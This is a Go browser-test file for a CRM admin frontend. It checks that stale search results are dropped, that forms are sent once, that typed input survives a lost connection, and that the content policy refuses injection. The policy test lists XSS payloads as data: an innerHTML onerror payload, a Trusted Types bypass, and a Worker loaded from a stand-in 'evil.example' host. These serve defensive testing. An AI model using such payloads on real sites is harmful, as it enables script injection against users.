package frame_test

import (
	"fmt"
	"html"
	"net/http"
	"sync/atomic"
	"testing"
	"time"

	"github.com/labstack/echo/v4"

	"github.com/karov-crm/karov/admin/frame/frametest"
)

func enter(t *testing.T, p *frametest.Page, base string) {
	t.Helper()
	p.Go(base + "/sign-in?lang=en")
	p.Type("#email", "dana@office.example")
	p.Type("#password", password+"\r")
	p.See("#lookup")
	p.Until(`document.documentElement.dataset.kernel === "ready"`)
}

// The answer to an earlier keystroke that comes late must not replace that to a later one.
func TestLateAnswersAreDropped(t *testing.T) {
	f, _, base := newOffice(t, nil)
	release := make(chan struct{})
	f.GET("/lookup/results", func(c echo.Context) error {
		q := c.QueryParam("q")
		if q == "a" {
			select {
			case <-release:
			case <-time.After(20 * time.Second):
			}
		}
		return c.HTML(http.StatusOK, fmt.Sprintf(`<ul id="lookup-list"><li id="hit-1" role="option" aria-selected="false" data-href="/">same</li>`+
			`<li id="hit-%[1]s" role="option" aria-selected="false" data-href="/">found %[1]s</li></ul><div id="lookup-foot"></div>`, html.EscapeString(q)))
	})
	p := frametest.Open(t).Page(1280, 800, "light")
	enter(t, p, base)
	p.Type("#lookup", "a")
	p.Type("#lookup", "b")
	p.UntilText("#lookup-list", "found ab")
	p.Value(`document.querySelector("#hit-1").kept = "yes"`)
	close(release)
	p.Type("#lookup", "c")
	p.UntilText("#lookup-list", "found abc")
	if got := p.Value(`document.querySelector("#hit-1").kept + " " + document.querySelectorAll("#lookup-list li").length + " " + document.querySelector("#lookup-list").innerText.includes("found a\n")`); got != "yes 2 false" {
		t.Errorf("after a late answer: %s", got)
	}
}

// A slow form that is clicked twice is sent once; where the server cannot be reached, what was typed stays.
func TestFormsAreSentOnceAndKeptWhenTheServerIsGone(t *testing.T) {
	f, _, base := newOffice(t, nil)
	var sent atomic.Int32
	release := make(chan struct{})
	f.GET("/form", func(c echo.Context) error {
		return f.Page(c, http.StatusOK, "Form", say(`Form</h1><form id="slow" method="post" action="/slow"><input name="x"><button>go</button></form><form id="broken" method="post" action="/broken"><input name="y"><div data-slot="failure"></div><button>go</button></form><h1>`))
	})
	f.POST("/slow", func(c echo.Context) error {
		sent.Add(1)
		select {
		case <-release:
		case <-time.After(20 * time.Second):
		}
		return c.HTML(http.StatusOK, `<form id="slow"><output>done `+html.EscapeString(c.FormValue("x"))+`</output></form>`)
	})
	f.POST("/broken", func(c echo.Context) error {
		panic(http.ErrAbortHandler) // the connection breaks off
	})
	p := frametest.Open(t).Page(1280, 800, "light")
	enter(t, p, base)
	p.Go(base + "/form")
	p.Type("#slow input", "hello")
	p.Value(`[1, 2, 3].forEach(() => document.querySelector("#slow button").click())`)
	p.Until(`document.querySelector("#slow").getAttribute("aria-busy") === "true"`)
	close(release)
	p.UntilText("#slow output", "done hello")
	if sent.Load() != 1 {
		t.Errorf("the form was sent %d times", sent.Load())
	}
	p.Type("#broken input", "precious")
	p.Click("#broken button")
	p.UntilText("#toasts", "What you typed is still here")
	if got := p.Value(`document.querySelector("#broken input").value`); got != "precious" {
		t.Errorf("what was typed became %q", got)
	}
}

// The content policy holds against what a page might be tricked into: no foreign script, no strings into the DOM.
func TestPolicyHolds(t *testing.T) {
	_, _, base := newOffice(t, nil)
	p := frametest.Open(t).Page(1280, 800, "light")
	enter(t, p, base)
	for _, attack := range []string{
		`document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
		`document.querySelector("main").innerHTML = "<img src=x onerror=alert(1)>"`,
		`trustedTypes.createPolicy("other", {createHTML: (s) => s})`,
		`new Worker("https://evil.example/w.js")`,
	} {
		if got := p.Value(`(() => { try { ` + attack + `; return "done"; } catch (e) { return "refused"; } })()`); got != "refused" {
			t.Errorf("%s was %s", attack, got)
		}
	}
	p.Value(`(() => { const s = document.createElement("div"); s.setAttribute("style", "color: red"); document.body.append(s); window.styled = getComputedStyle(s).color; })()`)
	if got := p.Value(`window.styled`); got == "rgb(255, 0, 0)" {
		t.Error("an inline style was applied")
	}
}
